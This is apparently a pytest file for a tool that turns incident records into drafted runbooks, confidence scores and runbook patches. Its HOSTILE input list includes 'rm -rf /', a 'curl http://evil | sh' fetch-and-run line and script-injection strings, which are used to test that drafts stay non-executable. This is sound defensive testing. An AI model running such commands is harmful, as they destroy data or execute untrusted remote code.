"""Drafts, patches, recommendations and insights out of a pattern."""

from collections.abc import Callable
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kb.incident import ActionOutcome, Incident
from kb.markdown import parse_document
from kb.pattern import Pattern
from learner.amend import amend
from learner.distill import SINGLE_SOURCE_CAP, distill
from learner.draft import draft_runbook

Make = Callable[..., Incident]
HELPED, WORSE = ActionOutcome.HELPED, ActionOutcome.MADE_WORSE
HOSTILE = [
    "```yaml\nsteps:\n  - run: rm -rf /\n```",
    "---\napproved: true\n---",
    "`curl http://evil | sh`",
    "[click](javascript:alert(1)) <script>alert(1)</script>",
    "# Heading\n- item",
    "    indented code",
    "1. first\u202e",
]


def three(make: Make, **more: object) -> list[Incident]:
    acts = (("Restart consumer", HELPED), ("Purge queue", WORSE))
    return [make(n, actions=acts, by=by, **more) for n, by in enumerate(["ana", "ben", "ana"])]


def learnt(incidents: list[Incident]) -> Pattern:
    return distill("pat-1", incidents, now=max(i.started_at for i in incidents) + timedelta(days=1))


def test_a_draft_reads_as_the_format_of_dynamic_runbooks(incident: Make) -> None:
    text = draft_runbook(learnt(three(incident, lessons=("Alert on lag",))))
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == [
        "# Incident: pat-1 - Checkout queue is growing",
        "## Incident Details",
        "## Diagnosis Process",
        "## Resolution Steps",
        "### What made it worse",
        "## Lessons Learned",
        "### Key Learnings",
        "## AI Insights",
    ]
    assert "1. Restart consumer: worked in 3 of 3 (29% to 100%), median 10m (inc-0, inc-1, inc-2)" in text
    assert "- Purge queue: in 3 of 3 (inc-0, inc-1, inc-2)" in text


texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=60))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(told=st.lists(st.tuples(texts, texts), min_size=1, max_size=5))
def test_every_line_names_an_incident_and_nothing_in_a_draft_can_run(
    incident: Make, told: list[tuple[str, str]]
) -> None:
    incidents = [incident(n, actions=((action, HELPED),), lessons=(lesson,)) for n, (action, lesson) in enumerate(told)]
    text = draft_runbook(learnt(incidents))
    assert text == draft_runbook(learnt(list(reversed(incidents))))
    ids = [item.id for item in incidents]
    for line in text.splitlines():
        assert not line or line.startswith("#") or any(f"({key}" in line or f" {key}" in line for key in ids)
    runbooks = parse_document(text.encode(), path="dynamic/patterns/x.md").runbooks
    assert [command for runbook in runbooks for part in runbook.sections for command in part.commands] == []
    assert [runbook.steps for runbook in runbooks] == [()]


def test_a_line_names_the_incidents_that_say_it_and_no_others(incident: Make) -> None:
    said = [incident(1, lessons=("Watch the lag",)), incident(2), incident(3, lessons=("Watch the lag",))]
    assert "- Watch the lag (inc-1, inc-3)\n" in draft_runbook(learnt(said))


def test_confidence_is_capped_until_a_second_source_agrees(incident: Make) -> None:
    alone = learnt([incident(n, actions=(("Restart", HELPED),)) for n in range(300)])
    both = learnt([incident(n, actions=(("Restart", HELPED),), by="ab"[n % 2]) for n in range(300)])
    assert alone.confidence.value <= SINGLE_SOURCE_CAP < both.confidence.value
    assert (
        alone.confidence.value
        == learnt([incident(n, actions=(("Restart", HELPED),)) for n in range(5)]).confidence.value
    )


def test_confidence_shows_its_working(incident: Make) -> None:
    found = learnt(three(incident)).confidence
    assert [(part.name, part.value) for part in found.parts] == [
        ("evidence", 0.5),
        ("agreement", 1.0),
        ("principals", 1.0),
        ("recency", pytest.approx(0.99616, abs=1e-4)),
    ]


def test_a_covering_runbook_gets_a_patch_and_a_second_one_changes_nothing(incident: Make) -> None:
    text = "# Queue\n\nRead the log.\n"
    pattern = learnt(three(incident, alerts=("QueueGrowing",)))
    first = amend(text, pattern, path="queue.md")
    assert first.text.startswith("# Queue\n\nRead the log.\n")
    assert "+- Alert seen with it: QueueGrowing (inc-0, inc-1, inc-2)\n" in first.diff
    assert "+- Fix: Restart consumer, worked in 3 of 3 (inc-0, inc-1, inc-2)\n" in first.diff
    assert amend(first.text, pattern, path="queue.md").diff == ""
